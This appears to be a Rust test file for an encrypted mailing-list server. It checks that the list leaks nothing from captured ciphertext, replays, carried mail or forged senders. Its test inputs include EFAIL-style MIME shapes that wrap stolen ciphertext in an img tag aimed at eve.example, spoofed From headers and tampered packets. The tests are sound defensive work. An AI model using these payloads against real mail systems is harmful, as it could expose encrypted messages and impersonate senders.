//! A list that is asked to be an oracle: captured ciphertext, carried mail, replays, false senders.

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use crate::common::readers::read_copy;
use crate::common::sink::Received;
use crate::common::site::{LIST, Site};
use crate::common::{entity, post};
use sealist_mail::Timestamp;
use sealist_mail::rfc3156::{Shape, classify};
use sealist_openpgp::testing::{Kind, Person, armored, twist};
use sealist_smtp::client::{Envelope, RecipientResult, WireBody};

const CANARY: &str = "ZebraCanary5581";
const EVE: &str = "eve@example.com";

/// A list with Anne, Mallory and their owner Olga, all with keys; Eve is a stranger.
struct Stage {
    site: Site,
    anne: Person,
    mallory: Person,
    olga: Person,
}

impl Stage {
    async fn new() -> Self {
        let site = Site::new().await;
        let anne = site.join_with("anne@example.org", Kind::NistP256);
        let mallory = site.join_with("mallory@example.org", Kind::Curve25519);
        let olga = site.join_with("olga@example.org", Kind::Curve25519);
        site.server.cli(&["members", "add", LIST, "olga@example.org", "--role", "owner"]);
        Self { site, anne, mallory, olga }
    }

    /// What Anne wrote to the list and somebody caught on its way.
    fn captured(&self) -> Vec<u8> {
        let now = Timestamp::now();
        self.anne.packets(&[&self.site.certificate()], &entity("Secret", CANARY), now)
    }

    async fn provoke(&self, message: &[u8]) -> Vec<Received> {
        self.provoke_with(&[message]).await
    }

    async fn provoke_with(&self, messages: &[&[u8]]) -> Vec<Received> {
        self.provoke_at(LIST, messages).await
    }

    /// Sends them there and takes all that comes out.
    async fn provoke_at(&self, to: &str, messages: &[&[u8]]) -> Vec<Received> {
        let mut connection = self.site.server.connect().await;
        for message in messages {
            let result = post(&mut connection, to, message).await;
            assert!(matches!(result, RecipientResult::Sent(_)), "{result:?}");
        }
        self.site.notices().await
    }

    /// Sends it there, and Olga reads the canary, perhaps beside notices of what is held.
    async fn reaches_olga(&self, to: &str, message: &[u8]) {
        let mut connection = self.site.server.connect().await;
        let result = post(&mut connection, to, message).await;
        assert!(matches!(result, RecipientResult::Sent(_)), "{result:?}");
        let certificate = self.site.certificate();
        let end = Instant::now() + crate::common::site::WAIT;
        while Instant::now() < end {
            for notice in self.site.sink.wait_for(1, Duration::from_millis(100)).await {
                assert_eq!(notice.recipient, "olga@example.org");
                let Shape::Encrypted(armor) = classify(&notice.message) else { continue };
                let Some((text, _)) = read_copy(&self.olga, &armor, &certificate) else { continue };
                if String::from_utf8_lossy(&text).contains(CANARY) {
                    return;
                }
            }
        }
        panic!("nothing came to Olga");
    }

    /// Nobody reads the canary in it, with whatever key.
    fn assert_silent(&self, came: &[Received], what: &str) {
        let certificate = self.site.certificate();
        for notice in came {
            let mut seen = vec![notice.message.clone()];
            if let Shape::Encrypted(armor) = classify(&notice.message) {
                let people = [&self.anne, &self.mallory, &self.olga];
                seen.extend(people.iter().filter_map(|who| Some(read_copy(who, &armor, &certificate)?.0)));
            }
            for text in seen {
                let text = String::from_utf8_lossy(&text).into_owned();
                assert!(!text.contains(CANARY), "{what}, to {}: {text}", notice.recipient);
            }
        }
    }
}

/// Twenty ways to put somebody's ciphertext into a message: EFAIL and its kin.
fn shapes(packets: &[u8], own: &[u8]) -> Vec<String> {
    let armor = String::from_utf8(armored(packets)).unwrap();
    let own = String::from_utf8(armored(own)).unwrap();
    let control = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    let data = format!("Content-Type: application/octet-stream\r\n\r\n{armor}");
    let around = |boundary: &str, kind: &str, parts: &[&str]| {
        let parts: String = parts.iter().map(|part| format!("--{boundary}\r\n{part}\r\n")).collect();
        format!("Content-Type: {kind}; boundary={boundary}\r\n\r\n{parts}--{boundary}--\r\n")
    };
    let multi = |kind: &str, parts: &[&str]| around("outer", kind, parts);
    let pgp = "multipart/encrypted; protocol=\"application/pgp-encrypted\"";
    let whole = around("inner", pgp, &[control, &data]);
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}\r\n");
    let image = html("<img src=\"http://eve.example/");
    let base64 = |text: &str| {
        format!(
            "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
            String::from_utf8(sealist_mail::transfer::base64_lines(text.as_bytes())).unwrap()
        )
    };
    let text = |text: &str| format!("Content-Type: text/plain\r\n\r\n{text}");
    vec![
        whole.clone(),
        multi("multipart/mixed", &[&image, &whole, &html("\">")]),
        multi("multipart/mixed", &[&whole, &text("Hello.")]),
        multi("multipart/alternative", &[&text("Hello."), &whole]),
        multi("multipart/related", &[&image, &whole]),
        format!("Content-Type: message/rfc822\r\n\r\nFrom: anne@example.org\r\n{whole}"),
        multi("multipart/digest", &[&format!("\r\nFrom: anne@example.org\r\n{whole}")]),
        html(&format!("<img src=\"http://eve.example/{armor}\">")),
        text(&format!("Quote this:\r\n{armor}")),
        text(&format!("{armor}\r\nQuote this.\r\n")),
        text(&format!("{own}{armor}")),
        multi("multipart/mixed", &[&text(&own), &text(&armor), &image]),
        multi("multipart/mixed", &[&data]),
        base64(&format!("Look:\r\n{armor}")),
        multi("multipart/mixed", &[control, &data, &image]),
        multi(pgp, &[control, &data, &image]),
        format!("Content-Type: text/html\r\n{whole}"),
        multi("multipart/mixed", &[&text("This mail was scanned."), control, &data]),
        multi("multipart/signed; protocol=\"application/pgp-signature\"", &[&whole, &text("x")]),
        multi("multipart/mixed", &[&format!("{pgp}\r\n{data}"), &whole]),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn a_captured_ciphertext_yields_nothing_to_anyone() {
    let stage = Stage::new().await;
    let list = stage.site.certificate();
    let captured = stage.captured();
    let own = Person::unsigned_packets(&list, b"Mallory's own words.");
    for (at, shape) in shapes(&captured, &own).iter().enumerate() {
        let by_stranger = format!("From: {EVE}\r\nTo: {LIST}\r\n{shape}");
        let unsigned = format!("From: mallory@example.org\r\nTo: {LIST}\r\n{shape}");
        let nested = stage.mallory.mail_of(&Person::unsigned_packets(&list, shape.as_bytes()));
        let came = stage.provoke_with(&[by_stranger.as_bytes(), unsigned.as_bytes(), &nested]).await;
        stage.assert_silent(&came, &format!("shape {at}"));
        // Around it a member's own encryption and signature: a good post, in which it stays what it is.
        let posted = stage.mallory.mail(&list, shape.as_bytes(), Timestamp::now());
        let came = stage.provoke(&posted).await;
        // A root with two types has two readings, and one without a type is no part, whoever signed it; its
        // author gets a notice.
        let is_part =
            shape.starts_with("Content-Type:") && !shape.starts_with("Content-Type: text/html\r\nContent-");
        // Nor is a second layer of encryption posted.
        let is_layer = matches!(classify(shape.as_bytes()), Shape::Encrypted(_) | Shape::Inline { .. });
        let copies = came.iter().filter(|copy| !copy.sender.is_empty()).count();
        assert_eq!(copies, if is_part && !is_layer { 3 } else { 0 }, "shape {at} is posted");
        stage.assert_silent(&came, &format!("within, shape {at}"));
    }
    // A bounce that quotes it is not opened either.
    let bounce = format!(
        "From: MAILER-DAEMON@x.example\r\nAuto-Submitted: auto-replied\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=r\r\n\r\n--r\r\n\r\n{}\r\n--r--\r\n",
        String::from_utf8(armored(&captured)).unwrap()
    );
    assert!(stage.provoke(bounce.as_bytes()).await.is_empty());
}

/// What the owner sees of what is held: the reasons of each.
fn held(site: &Site) -> Vec<String> {
    site.server.queued().iter().map(|entry| entry["reasons"].to_string()).collect()
}

fn to_entity(to: &str, text: &str) -> Vec<u8> {
    format!("Content-Type: text/plain; protected-headers=\"v1\"\r\nFrom: anne@example.org\r\nTo: {to}\r\nSubject: x\r\n\r\n{text}\r\n")
        .into_bytes()
}

#[tokio::test(flavor = "multi_thread")]
async fn mail_is_not_carried_to_another_sub_address() {
    let stage = Stage::new().await;
    let (site, list) = (&stage.site, stage.site.certificate());
    let owners = "team-owner@lists.example";
    let now = Timestamp::now();

    // Caught on its way to the owners and sent to the list first: its own To says better.
    let to_owners = stage.anne.mail(&list, &to_entity(owners, CANARY), now);
    stage.assert_silent(&stage.provoke(&to_owners).await, "owner mail to the list");
    assert!(held(site)[0].contains("not-meant-for-here"), "{:?}", held(site));
    // The real way is open still.
    stage.reaches_olga(owners, &to_owners).await;

    // Without a To inside, what went to the owners does not go to the list.
    let silent = stage.anne.mail(&list, &entity("x", CANARY), now);
    stage.reaches_olga(owners, &silent).await;
    let before = held(site).len();
    stage.assert_silent(&stage.provoke(&silent).await, "the same to the list");
    assert_eq!(held(site).len(), before + 1);
    assert!(held(site).iter().any(|reasons| reasons.contains("seen-elsewhere")), "{:?}", held(site));

    // Nor to another list of the site: its signed text, encrypted anew by whoever could read it.
    site.server.cli(&["lists", "create", "other@lists.example"]);
    let anne_key = site.server.file("anne.asc", &stage.anne.certificate().armored());
    site.server.cli(&["members", "add", "other@lists.example", "anne@example.org", "--key", &anne_key]);
    let other = site.server.cli(&["lists", "key", "other@lists.example"]);
    let other = sealist_openpgp::Certificate::read_one(other.as_bytes()).unwrap();
    let text = entity("x", CANARY);
    let inner = Person::signed(&text, &stage.anne.signature(&text, now.plus_ms(-1000)));
    let first = stage.anne.mail_of(&Person::unsigned_packets(&list, &inner));
    // A notice of what was held before may come meanwhile.
    let came = stage.provoke(&first).await;
    let readers: BTreeSet<&str> = came.iter().map(|mail| mail.recipient.as_str()).collect();
    assert_eq!(readers.len(), 3, "posted where it was meant for");
    let carried = stage.anne.mail_of(&Person::unsigned_packets(&other, &inner));
    let before = held(site).len();
    let came = stage.provoke_at("other@lists.example", &[&carried]).await;
    stage.assert_silent(&came, "on another list");
    assert_eq!(held(site).len(), before + 1);
}

/// Who carries a message here cannot leave anybody out of it, nor hide it from its author.
#[tokio::test(flavor = "multi_thread")]
async fn what_is_carried_is_noticed() {
    let stage = Stage::new().await;
    let (site, list) = (&stage.site, stage.site.certificate());
    site.server.cli(&["members", "set", LIST, "anne@example.org", "receive_own_postings", "false"]);
    site.server.cli(&["members", "set", LIST, "mallory@example.org", "receive_list_copy", "false"]);
    let carried = |text: &[u8]| {
        let inner = Person::signed(text, &stage.anne.signature(text, Timestamp::now().plus_ms(-1000)));
        let mail = stage.anne.mail_of(&Person::unsigned_packets(&list, &inner));
        [b"To: team@lists.example, mallory@example.org\r\nSubject: Pay Eve\r\nReferences: <pay@eve.example>\r\n", &mail[..]]
            .concat()
    };
    let came = site.send(LIST, &carried(b"Content-Type: text/plain\r\n\r\nYes, do it.\r\n"), 3).await;
    for copy in &came {
        let Shape::Encrypted(armor) = classify(&copy.message) else { panic!("not encrypted") };
        let people = [&stage.anne, &stage.mallory, &stage.olga];
        let (text, signed) = people.iter().find_map(|who| read_copy(who, &armor, &list)).unwrap();
        let text = String::from_utf8(text).unwrap();
        assert!(signed && text.contains("\r\nSubject: (not signed) Pay Eve\r\n"), "{text}");
        for line in ["Signature: good\r\n", "Subject: not signed\r\n", "To whom: not signed\r\n"] {
            assert!(text.contains(line), "{line} in {text}");
        }
        assert!(
            !text.contains("pay@eve") && !copy.message.windows(7).any(|words| words == b"Pay Eve"),
            "{text}"
        );
    }
    // What Anne says within her signature counts: she wants no copy of her own, Mallory has one.
    let both = format!("{LIST}, mallory@example.org");
    let came = site.send(LIST, &carried(&to_entity(&both, "Hers.")), 1).await;
    assert_eq!(came[0].recipient, "olga@example.org");
}

#[tokio::test(flavor = "multi_thread")]
async fn one_signature_posts_once() {
    let stage = Stage::new().await;
    let list = stage.site.certificate();
    let text = entity("x", "We meet at seven.");
    let signature = stage.anne.signature(&text, Timestamp::now());
    let wrapped = |signature: &[u8]| {
        stage.anne.mail_of(&Person::unsigned_packets(&list, &Person::signed(&text, signature)))
    };
    assert_eq!(stage.provoke(&wrapped(&signature)).await.len(), 3);
    let mut told = 1;
    for (what, again) in [
        ("encrypted anew", signature.clone()),
        ("something added", twist::with_unsigned_noise(&signature)),
        ("s replaced by n - s", twist::mirrored(&signature)),
    ] {
        let before = held(&stage.site).len();
        let came = stage.provoke(&wrapped(&again)).await;
        assert_eq!(came.len(), std::mem::take(&mut told), "{what}: its author hears once");
        assert!(came.iter().all(|notice| notice.recipient == "anne@example.org"), "{what}");
        assert_eq!(held(&stage.site).len(), before, "{what}: discarded");
    }
    // A list may do without the record, and then takes it again.
    stage.site.set("collect_sig_hashes", "false").await;
    assert_eq!(stage.provoke(&wrapped(&signature)).await.len(), 3);
}

/// One transaction with four addresses that mean one list, and the same mail again.
#[tokio::test(flavor = "multi_thread")]
async fn one_transaction_posts_once() {
    let stage = Stage::new().await;
    let message = stage.mallory.mail(&stage.site.certificate(), &entity("x", "Once."), Timestamp::now());
    let to = ["team", "team+a", "TEAM", "team+b"].map(|local| format!("{local}@lists.example"));
    let mut connection = stage.site.server.connect().await;
    // Its author hears that it came again.
    for expected in [3, 1] {
        let mut envelope = Some(Envelope {
            id: 0,
            sender: Some("mallory@example.org".into()),
            recipients: to.to_vec(),
            body: WireBody::from_message(&message),
        });
        let mut results = Vec::new();
        connection.deliver(|| envelope.take(), |_, outcome| results = outcome).await.unwrap();
        assert!(results.iter().all(|one| matches!(one, RecipientResult::Sent(_))), "{results:?}");
        assert_eq!(results.len(), 4, "a reply for each recipient");
        assert_eq!(stage.site.notices().await.len(), expected);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn of_500_at_once_one_is_posted() {
    let stage = Stage::new().await;
    let message = stage.mallory.mail(&stage.site.certificate(), &entity("x", "Once."), Timestamp::now());
    let mut senders = Vec::new();
    for _ in 0..10 {
        let mut connection = stage.site.server.connect().await;
        let message = message.clone();
        senders.push(tokio::spawn(async move {
            for _ in 0..50 {
                let result = post(&mut connection, LIST, &message).await;
                assert!(matches!(result, RecipientResult::Sent(_)), "{result:?}");
            }
        }));
    }
    for sender in senders {
        sender.await.unwrap();
    }
    assert_eq!(stage.site.notices().await.len(), 4, "one copy for each member, and a notice to the author");
    assert!(held(&stage.site).is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_stored_is_no_message() {
    use sealist_store::bodies::{self, StoredBody};
    let stage = Stage::new().await;
    let message = stage.anne.mail(&stage.site.certificate(), &entity("x", CANARY), Timestamp::now());
    assert_eq!(stage.provoke(&message).await.len(), 3);
    let database = stage.site.server.folder.path().join("data").join("sealist.db");
    let store = sealist_store::Store::open(&database).await.unwrap();
    let mut seen = 0;
    for no in 1..20 {
        let mut db = store.reader().await.unwrap();
        let Ok(StoredBody::Sealed(sealed)) = bodies::load(&mut db, sealist_lists::model::BodyNo(no)).await
        else {
            continue;
        };
        seen += 1;
        for packet in [sealed.payload(), sealed.outer()] {
            let stored = [sealed.wrapped_key(), packet].concat();
            for mail in [stage.anne.mail_of(&stored), stage.mallory.mail_of(&stored)] {
                let before = held(&stage.site).len();
                let came = stage.provoke(&mail).await;
                stage.assert_silent(&came, "what was stored");
                let answered = held(&stage.site).len() - before + came.len();
                assert!(answered > 0 && came.len() < 3, "it is refused or held, and not posted");
            }
        }
    }
    assert!(seen > 0, "the post is stored");
}

/// Mallory, who is a member, under other people's names: nobody but Mallory is believed to have written it.
#[tokio::test(flavor = "multi_thread")]
async fn who_wrote_is_who_signed() {
    let stage = Stage::new().await;
    let list = stage.site.certificate();
    let anne = "anne@example.org";
    let me = "mallory@example.org";
    let body = |at: usize| {
        let mail = stage.mallory.mail(&list, &entity(&format!("No. {at}"), "Pay me."), Timestamp::now());
        String::from_utf8(mail).unwrap().split_once("\r\n").unwrap().1.to_owned()
    };
    let mut accepted = Vec::new();
    let forged: Vec<String> = vec![
        format!("From: {anne}\r\n"),
        "From: \r\n".into(),
        String::new(),
        format!("From: {anne}\r\nFrom: {me}\r\n"),
        format!("From: {me}\r\nFrom: {anne}\r\n"),
        format!("From: {anne}, {me}\r\n"),
        format!("From: {me}, {anne}\r\n"),
        format!("From: friends: {anne}, {me};\r\n"),
        format!("Sender: {me}\r\nFrom: {anne}\r\n"),
        format!("From: <{anne}> <{me}>\r\n"),
        format!("From: {me} <{anne}>\r\n"),
        format!("Sender: {anne}\r\nFrom: {me}\r\n"),
        format!("From: \"{anne}\" <{me}>\r\n"),
        format!("From: =?utf-8?q?Anne_=3C{}=3E?= <{me}>\r\n", anne.replace('@', "=40")),
        format!("From: {me} ({anne})\r\n"),
    ];
    for (at, from) in forged.iter().enumerate() {
        let came = stage.provoke(format!("{from}{}", body(at)).as_bytes()).await;
        for copy in came.iter().filter(|copy| copy.recipient == anne) {
            let Shape::Encrypted(armor) = classify(&copy.message) else { panic!("not encrypted") };
            let (text, _) = read_copy(&stage.anne, &armor, &list).unwrap();
            let text = String::from_utf8(text).unwrap();
            if text.contains("Pay me.") {
                let block = text.lines().filter(|line| line.starts_with("From: ")).collect::<Vec<_>>();
                assert!(block.iter().all(|line| !line.contains(anne)), "{from}: {block:?}");
                assert!(block.iter().any(|line| line.contains(me)), "{from}: {block:?}");
                accepted.push(at);
            }
        }
    }
    assert_eq!(accepted, [11, 12, 13, 14], "only where the one From is Mallory's");
}

/// What a member sends: packets.
type Make<'a> = Box<dyn Fn(&Person) -> Vec<u8> + 'a>;

/// Whatever is wrong with what a member sends, the list says the same.
#[tokio::test(flavor = "multi_thread")]
async fn every_failure_sounds_the_same() {
    let site = Site::new().await;
    let list = site.certificate();
    let now = Timestamp::now();
    let stranger = Person::new(EVE, Kind::Curve25519, now);
    let inner = entity("x", CANARY);
    let cut = |packets: Vec<u8>, octets: usize| packets[..packets.len() - octets].to_vec();
    let bent = |mut packets: Vec<u8>, at: usize| {
        let at = if at == 0 { packets.len() - 1 } else { at };
        packets[at] ^= 1;
        packets
    };
    let good = |who: &Person| who.packets(&[&list], &inner, now);
    let kinds: Vec<(&str, Make<'_>)> = vec![
        ("unsigned", Box::new(|_| Person::unsigned_packets(&list, &inner))),
        ("another signer", Box::new(|_| good(&stranger))),
        ("another reader", Box::new(|who| who.packets(&[&stranger.certificate()], &inner, now))),
        ("cut by one", Box::new(|who| cut(good(who), 1))),
        ("cut by forty", Box::new(|who| cut(good(who), 40))),
        ("last octet", Box::new(|who| bent(good(who), 0))),
        ("session key", Box::new(|who| bent(good(who), 80))),
        ("first block", Box::new(|who| bent(good(who), 105))),
        ("version", Box::new(|who| bent(good(who), 2))),
        ("no integrity", Box::new(|_| vec![0xc9, 3, 1, 2, 3])),
        ("LibrePGP", Box::new(|_| vec![0xd4, 3, 1, 2, 3])),
        ("password", Box::new(|_| vec![0xc3, 4, 4, 9, 0, 8, 0xd2, 2, 1, 1])),
        ("no packets", Box::new(|_| vec![0x80 | 0x3f; 9])),
        ("words inside", Box::new(|_| Person::unsigned_packets(&list, b"no entity, no header"))),
    ];
    let mut heard: Vec<(String, String)> = Vec::new();
    let mut replies = Vec::new();
    for (name, make) in &kinds {
        let address = format!("{}@example.org", name.replace(' ', "-").to_lowercase());
        let who = site.join_with(&address, Kind::Curve25519);
        let mut connection = site.server.connect().await;
        let RecipientResult::Sent(reply) = post(&mut connection, LIST, &who.mail_of(&make(&who))).await
        else {
            panic!("{name}: taken")
        };
        replies.push(reply.to_string());
        let notices = site.sink.wait_for(1, crate::common::site::WAIT).await;
        assert_eq!(notices.len(), 1, "{name}: {:?}", held(&site));
        assert_eq!(notices[0].recipient, address, "{name}");
        let Shape::Encrypted(armor) = classify(&notices[0].message) else { panic!("{name}: sealed") };
        let (text, signed) = read_copy(&who, &armor, &list).unwrap();
        assert!(signed, "{name}");
        heard.push(((*name).to_owned(), plain(&String::from_utf8(text).unwrap(), &address)));
    }
    for (name, words) in &heard {
        assert_eq!(words, &heard[0].1, "{name}");
    }
    let stranger = post(&mut site.server.connect().await, LIST, &stranger.mail_of(&good(&stranger))).await;
    let RecipientResult::Sent(reply) = stranger else { panic!("a stranger's mail is taken too") };
    replies.push(reply.to_string());
    let without_number = |reply: &String| reply.split_whitespace().take(3).collect::<Vec<_>>().join(" ");
    assert!(replies.iter().all(|reply| without_number(reply) == without_number(&replies[0])), "{replies:?}");
}

/// A notice without what differs from reader to reader and from day to day.
fn plain(notice: &str, address: &str) -> String {
    let boundary = notice.split("boundary=\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap();
    let same = notice.replace(address, "ADDRESS").replace(boundary, "BOUNDARY");
    let differs = ["Date:", "Message-ID:", "HP-Outer: Date:", "HP-Outer: Message-ID:"];
    let lines = same.lines().filter(|line| !differs.iter().any(|name| line.starts_with(name)));
    lines.filter(|line| !line.starts_with(" <")).collect::<Vec<_>>().join("\n")
}
